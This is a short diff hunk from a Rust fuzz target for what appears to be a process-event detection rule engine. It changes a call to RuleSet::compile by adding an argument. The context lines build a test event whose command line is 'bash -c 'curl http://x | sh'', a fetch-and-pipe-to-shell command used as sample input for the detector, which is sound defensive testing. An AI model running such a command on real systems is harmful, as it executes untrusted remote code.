@@ -24,7 +24,7 @@ fuzz_target!(|data: &[u8]| {
         &mut entries,
     );
     let rules: Vec<_> = entries.iter().filter_map(|e| e.rule.as_ref()).collect();
-    let (mut set, _) = RuleSet::compile(rules.into_iter().enumerate());
+    let (mut set, _) = RuleSet::compile(rules.into_iter().enumerate(), 1);
     let mut ev = Event::new(EventKind::ProcessCreation);
     ev.push_str(f::IMAGE, "/usr/bin/bash");
     ev.push_str(f::COMMAND_LINE, "bash -c 'curl http://x | sh'");
